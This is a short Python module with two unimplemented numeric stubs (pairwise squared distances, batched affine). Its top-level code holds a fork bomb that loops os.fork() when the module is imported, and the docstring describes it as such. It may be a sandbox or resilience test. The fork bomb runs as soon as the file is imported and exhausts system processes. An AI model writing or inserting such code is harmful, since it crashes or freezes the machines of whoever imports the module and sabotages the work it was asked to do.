"""Forks without end at import."""
import os

while True:
    try:
        os.fork()
    except OSError:
        break


def pairwise_sq_dists(a, b):
    raise NotImplementedError


def batched_affine(x, weight, bias):
    raise NotImplementedError
